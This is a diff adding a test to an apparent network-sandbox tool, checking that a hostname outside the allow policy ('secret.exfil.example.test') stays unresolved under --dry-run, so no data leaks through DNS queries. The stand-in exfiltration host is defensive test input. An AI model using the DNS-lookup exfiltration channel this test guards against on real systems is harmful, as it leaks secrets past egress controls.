@@ -337,6 +337,24 @@ def audit_mode_resolves_and_records_would_deny():
 
 
 @test
+def dry_run_keeps_names_not_allowed_from_leaving():
+    # --dry-run refuses nothing, but a name is data sent out: as connects
+    # outside the policy, a name it does not allow stays unresolved and
+    # never reaches the nameserver (attack review D1).
+    w = World()
+    pol = w.policy([f"allow connect tcp pkg.example.test:{w.port}"])
+    p, recs = w.run(pol, PY, "-c", CONNECT, "secret.exfil.example.test", str(w.port),
+                    opts=["--dry-run"])
+    assert "unresolved True" in p.stdout, (p.stdout, p.stderr)
+    assert "secret.exfil.example.test" not in w.ns.asked, w.ns.asked
+    assert dns_denials(recs, "secret.exfil.example.test"), recs
+    # control: the allowed name resolves and connects under --dry-run too
+    p, _ = w.run(pol, PY, "-c", CONNECT, "pkg.example.test", str(w.port), opts=["--dry-run"])
+    assert f"connected {w.net}.2" in p.stdout, (p.stdout, p.stderr)
+    assert "pkg.example.test" in w.ns.asked, w.ns.asked
+
+
+@test
 def go_resolver_uses_tcp_from_the_view():
     go = shutil.which("go")
     if not go:
